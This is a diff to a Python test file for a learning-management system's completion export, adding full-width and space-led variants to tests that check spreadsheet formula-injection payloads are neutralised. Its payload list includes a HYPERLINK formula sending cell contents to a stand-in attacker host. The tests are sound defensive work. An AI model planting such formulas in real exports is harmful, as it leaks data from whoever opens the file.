@@ -15,7 +15,7 @@ from lms.audit.models import AuditEvent
 from lms.extensions import db
 from lms.reports.completions import COLUMN_NAMES, CompletionExport
 from lms.reports.filters import ExportFilters
-from lms.reports.spreadsheets import safe_cell
+from lms.spreadsheets import looks_like_a_formula, safe_cell
 from tests.reports.conftest import utc
 from tests.reports.factories import enrol, make_cohort
 
@@ -191,7 +191,8 @@ def test_the_xlsx_opens_with_openpyxl_and_holds_the_same_rows(client, auth, coun
     assert [[str(v) for v in row] for row in xlsx_rows] == csv_rows
 
 
-INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1"]
+INJECTIONS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1+1", "@SUM(1)", "-2+3", "\t=1+1", "\r=1+1",
+              "＝1+1", "＋SUM(1)", "－2+3", "＠SUM(1)", " =1+1", "\u3000＝HYPERLINK(1)", "﹦1+1"]
 
 
 def test_formula_payloads_are_neutralised_in_both_formats(client, auth, county, make_user):
@@ -207,13 +208,13 @@ def test_formula_payloads_are_neutralised_in_both_formats(client, auth, county, 
     for row in injected:
         for column in ("trainee_name", "village", "cohorts"):
             assert row[column].startswith("'"), (column, row[column])
-            assert row[column][1:2] in "=+-@\t\r"
+            assert looks_like_a_formula(row[column][1:])
     response = post_export(client, status="enrolled", header="machine", file_format="xlsx")
     book = openpyxl.load_workbook(io.BytesIO(response.get_data()))
     cells = [cell for row in book.active.iter_rows() for cell in row]
     assert not [cell.coordinate for cell in cells if cell.data_type == "f"], "no cell may be a formula"
     texts = [cell.value for cell in cells if isinstance(cell.value, str)]
-    assert not [t for t in texts if t[:1] in "=+-@\t\r"]
+    assert not [t for t in texts if looks_like_a_formula(t)]
     assert "'=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Click\")" in texts
 
 
@@ -222,6 +223,17 @@ def test_safe_cells_keep_numbers_and_plain_text():
     assert safe_cell("北山村") == "北山村" and safe_cell("a=b") == "a=b"
     assert safe_cell("=1+1") == "'=1+1" and safe_cell("-1") == "'-1"
     assert safe_cell("bad\x00\x1bname") == "badname"
+
+
+@pytest.mark.parametrize("payload", ["＝1+1", "＋1", "－1", "＠SUM(A1)", "﹦1", "﹢1", "﹣1", "﹫A1", " =1", "  +1",
+                                     "\u3000＝1", "\u00a0@A1", "\t=1", "\r=1"])
+def test_full_width_and_space_led_formulas_are_kept_as_text(payload):
+    assert safe_cell(payload) == "'" + payload
+
+
+@pytest.mark.parametrize("text", ["北山村", "a=b", "5", "吕振鸿（＝老吕）", " 北山村", "", "　东坡村"])
+def test_text_that_only_contains_formula_signs_later_is_left_alone(text):
+    assert safe_cell(text) == text
 
 
 def test_no_matching_records_says_so_and_writes_no_file(client, auth, county):
